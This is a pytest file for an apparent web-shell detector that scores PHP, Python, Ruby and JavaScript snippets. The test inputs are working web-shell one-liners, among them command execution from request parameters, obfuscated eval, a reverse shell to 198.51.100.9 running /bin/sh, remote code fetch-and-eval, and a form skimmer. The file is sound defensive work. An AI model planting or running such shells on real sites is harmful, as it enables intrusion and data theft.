"""Web shells by what they do with a visitor's words, whichever variables these go through; applications do not."""

from __future__ import annotations

import pytest

from stopgap.orchestrator.findings.provenance.flow import flows, uncommented
from stopgap.orchestrator.findings.provenance.served import signs_of_php, signs_of_script


def weight(source: str) -> int:
    return max((each.weight for each in signs_of_php(f"<?php {source}".encode())), default=0)


@pytest.mark.parametrize(
    "source",
    [
        "if(isset($_REQUEST['cmd'])){ $cmd = ($_REQUEST['cmd']); system($cmd); }",
        '$c=$_GET["c"]; echo shell_exec($c." 2>&1");',
        "$body=file_get_contents('php://input'); eval($body);",
        "$d=json_decode(file_get_contents('php://input'),true); call_user_func($d['f'],$d['a']);",
        "foreach (array_merge($_COOKIE,$_POST) as $k=>$v) { $d=@base64_decode($v); eval('?>'.$d); }",
        "define('A', $_POST['a']); eval(A);",
        "$p=$_SERVER['HTTP_USER_AGENT']; if(strpos($p,'zq')===0) passthru(substr($p,2));",
        "set_error_handler($_GET['h']); trigger_error($_GET['a']);",
        "array_walk($_GET, 'assert');",
        "mb_ereg_replace('.*', $_POST['x'], '', 'e');",
        "$f = $_SERVER['HTTP_X_FN']; array_filter(array($_SERVER['HTTP_X_ARG']), $f);",
        "extract($_POST); $rows = array(1); if (isset($sort)) { usort($rows, $sort); }",
        "function hello($m, $v) { return call_user_func($m, $v); } is_file('/x') && hello($_REQUEST['a'] ?? '', 1);",
        "function r($a, $f) { return $f($a); } r(array(1, 2), $_POST['c']);",
        "class A { static function go($a, $b) { return $b($a); } } A::go('id', $_GET['f']);",
        'return include "php://filter/convert.base64-decode/resource=data:," . $data;',
        "$f = $_COOKIE['f']; ob_start($f); echo $_COOKIE['a']; ob_end_flush();",
        '$t=fsockopen("198.51.100.9",443); proc_open("/bin/sh -i",[0=>$t,1=>$t,2=>$t],$x);',
        "$c=file_get_contents('http://198.51.100.9/a.txt'); eval('?>'.$c);",
    ],
)
def test_a_shell_weighs_high_whichever_way_the_words_go(source: str) -> None:
    assert weight(source) >= 3


@pytest.mark.parametrize(
    "source",
    [
        "$p = $_FILES['up']; if(move_uploaded_file($p['tmp_name'], __DIR__.'/'.$p['name'])) echo 'ok';",
        "function x($a){ return str_replace('z','',$a); } $f=x('szyzstzezm'); $f($_COOKIE['a']);",
        "unlink($_GET['d']); rename($_GET['a'],$_GET['b']);",
        "mail($_POST['to'],$_POST['s'],$_POST['m']);",
        "$db=new mysqli('h','u','p'); $r=$db->query($_POST['q']);",
        "if(stripos($_SERVER['HTTP_USER_AGENT'],'googlebot')!==false) echo file_get_contents('http://spam.example/');",
    ],
)
def test_a_tool_of_an_intruder_weighs_at_least_medium(source: str) -> None:
    assert weight(source) >= 2


@pytest.mark.parametrize(
    "source",
    [
        "$page = intval($_GET['page']); echo $page;",
        "$state = State::load($_REQUEST['s']); assert(is_array($state));",
        '$file = $_GET["db"]; $cmd = "mysqldump --databases " . escapeshellarg($file); shell_exec($cmd);',
        "$controller = $routes[$name]; $controller($request);",
        "$name = $_POST['name']; echo htmlspecialchars($name);",
        "eval('?>' . $template);",
        "include('data://text/plain,' . urlencode($template));",
        "extract($_GET); function sorted_by($rows, $cmp) { usort($rows, $cmp); return $rows; }",
        "class A { function exec($cmd) { exec($cmd, $o); } } $db->exec($this->sql($_POST['x']));",
        "function h($a) { if (!in_array($a, array('a', 'b'), true)) die; call_user_func($a); } h($_GET['a']);",
        "function dispatch($action) { $action(); } $x = isset($_GET['a']) ? $_GET['a'] : 'i'; dispatch('index');",
    ],
)
def test_what_applications_do_is_no_flow(source: str) -> None:
    assert list(flows(source)) == []


def test_words_that_are_parted_by_comments_are_read_together() -> None:
    parted = '@$_="s"."s"./*-/*-*/"e"./*-/*-*/"r"; @$_=/*-/*-*/"a"./*-/*-*/$_./*-/*-*/"t";'
    assert weight(f'{parted} @$_/*-/*-*/($/*-/*-*/{{"_P"./*-/*-*/"OS"./*-/*-*/"T"}}[0]);') >= 2


def test_comments_are_taken_out_only_where_they_part_words() -> None:
    assert uncommented("a /* why */ b") == "a /* why */ b"
    assert uncommented("/**/s/**/y/**/s/**/t/**/e/**/m") == "system"


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("x.py", '@app.get("/x")\ndef x(c: str):\n    return os.popen(c).read()\n'),
        ("x.rb", 'get "/x" do\n  `#{params[:c]}`\nend\n'),
        ("x.js", "require('http').createServer((q, r) => require('child_process').exec(parse(q.url, true).query.c))"),
        ("x.py", "import os\nos.system(os.environ.get('HTTP_X_STAT', 'true'))\n"),
        ("x.js", "f.onsubmit = () => { var d = new FormData(f); new Image().src = atob('aHR0') + '?' + btoa(d) }"),
        ("x.js", "const e = require('express')(); e.use((q, r) => r.send(new Function(q.headers['x-a'])()));"),
    ],
)
def test_shells_in_other_languages_are_told(name: str, source: str) -> None:
    assert max(each.weight for each in signs_of_script(name, source.encode())) >= 2
